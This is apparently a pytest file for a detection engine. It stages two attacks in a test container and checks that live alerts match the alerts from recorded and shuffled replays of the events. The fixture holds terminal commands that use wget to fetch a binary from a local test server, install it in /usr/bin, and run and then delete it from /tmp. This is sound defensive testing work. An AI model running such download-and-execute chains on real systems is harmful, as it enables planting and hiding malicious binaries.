"""What was seen live gives the same alerts, id by id, when it is recorded and scanned, and when it comes shuffled."""

from collections.abc import Iterable
from contextlib import closing
from pathlib import Path
from random import Random

import pytest

from deckwatch.api import scan
from deckwatch.engine.stream import Stream
from deckwatch.eql.dates import parse_timestamp
from deckwatch.rules.load import founding_rules
from deckwatch.sensor.record import record
from deckwatch.sources.open import open_source
from tests.scenes.bundle import Bundle
from tests.scenes.containers import Container
from tests.scenes.notation import Document, told
from tests.scenes.stage import Stage
from tests.scenes.terminal import SHELL
from tests.scenes.web import serving

LATENESS = 2.0


@pytest.fixture
def attacked(stage: Stage) -> Container:
    """A container in which someone at a terminal has played both founding attacks."""
    container = stage.container(Bundle(("payload", "sleep 60000")))
    with (
        serving({"/tool": (stage.image / "bin/payload").read_bytes()}) as web,
        stage.running(container),
        container.execute_on_terminal(SHELL) as terminal,
    ):
        terminal.enter(f"wget -q {web}/tool -O /usr/bin/agent")
        terminal.enter(f"cd /tmp; wget -q {web}/tool; chmod +x tool; ./tool 'exit 0'; rm tool")
        terminal.enter("exit")
    return container


def test_the_same_alerts_in_every_way(stage: Stage, attacked: Container, tmp_path: Path) -> None:
    live, documents = stage.alert_documents(attacked), stage.documents(attacked)
    assert told(live) == [
        "interactive drop: creation /usr/bin/agent",
        "download, run, delete: creation /tmp/tool, exec /tmp/tool, deletion /tmp/tool",
    ]
    for name in ("events.ndjson", "events.ndjson.zst", "events.parquet"):
        _record(documents, tmp_path / name)
        assert _ids(scan(tmp_path / name, founding_rules())) == _ids(live)
    for seed in range(5):
        with Stream(open_source(_shuffled(documents, Random(seed))), founding_rules(), lateness=LATENESS) as stream:
            assert _ids(alert for step in stream for alert in step.alerts) == _ids(live)


def _shuffled(documents: list[Document], random: Random) -> list[Document]:
    """As they arrive when each comes late by up to the lateness."""
    times = [parse_timestamp(each["@timestamp"]) or 0 for each in documents]
    arrivals = [time + int(random.uniform(0, LATENESS) * 1e9) for time in times]
    return [document for _, _, document in sorted(zip(arrivals, range(len(documents)), documents, strict=True))]


def _record(documents: list[Document], path: Path) -> None:
    with closing(open_source(documents)) as source:
        record(source, path, stop=lambda: source.ended)


def _ids(alerts: Iterable[Document]) -> list[str]:
    return sorted(alert["kibana.alert.uuid"] for alert in alerts)
